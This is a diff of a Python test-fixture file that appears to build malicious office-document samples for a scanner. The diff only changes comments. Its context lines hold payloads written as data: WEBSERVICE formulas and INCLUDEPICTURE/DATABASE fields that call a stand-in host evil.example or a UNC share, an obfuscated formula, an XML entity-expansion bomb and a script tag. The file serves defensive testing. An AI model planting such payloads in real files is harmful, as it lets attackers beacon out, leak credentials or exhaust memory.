@@ -119,7 +119,7 @@ LINKS = samples(
         ("in a name.xlsx", part("xlsx", '<definedName name="a">WEBSERVICE("https://evil.example")</definedName>', "xl/n.xml")),
         ("in numbers.xlsx", part("xlsx", "<c><f>&#87;EB&#83;ERVICE(A1)</f></c>")),
     ],
-)  # fmt: skip
+)  # fmt: skip # laid out to be read
 
 
 def field(*runs: str, inner: str = "") -> str:
@@ -145,7 +145,7 @@ _FIELDS = {
     "picture": field('INCLUDEPICTURE "https://evil.example/a.png" \\d'),
     "picture of a share": field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"'),
     "database": field('DATABASE \\d "https://evil.example/a.mdb"'),
-}  # fmt: skip
+}  # fmt: skip # laid out to be read
 FIELDS = samples(
     "fields",
     [
@@ -155,7 +155,7 @@ FIELDS = samples(
         ("in any part.docx", part("docx", _FIELDS["plain"], "word/other.dat")),
         ("wide.docx", files.office("docx", {"word/w.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:p xmlns:w="w">{_FIELDS["plain"]}</w:p>'.encode("utf-16")})),
     ],
-)  # fmt: skip
+)  # fmt: skip # laid out to be read
 
 BOMB = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">{}]><a>&j;</a>'.format(
     "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
@@ -197,6 +197,6 @@ OBJECTS = samples(
         ("said program.docx", with_type("docx", "application/x-msdownload")),
         ("script.docx", part("docx", "<script>alert(1)</script>")),
     ],
-)  # fmt: skip
+)  # fmt: skip # laid out to be read
 
 SAMPLES: list[Sample] = [*MACROS, *LINKS, *FIELDS, *XML, *OBJECTS]
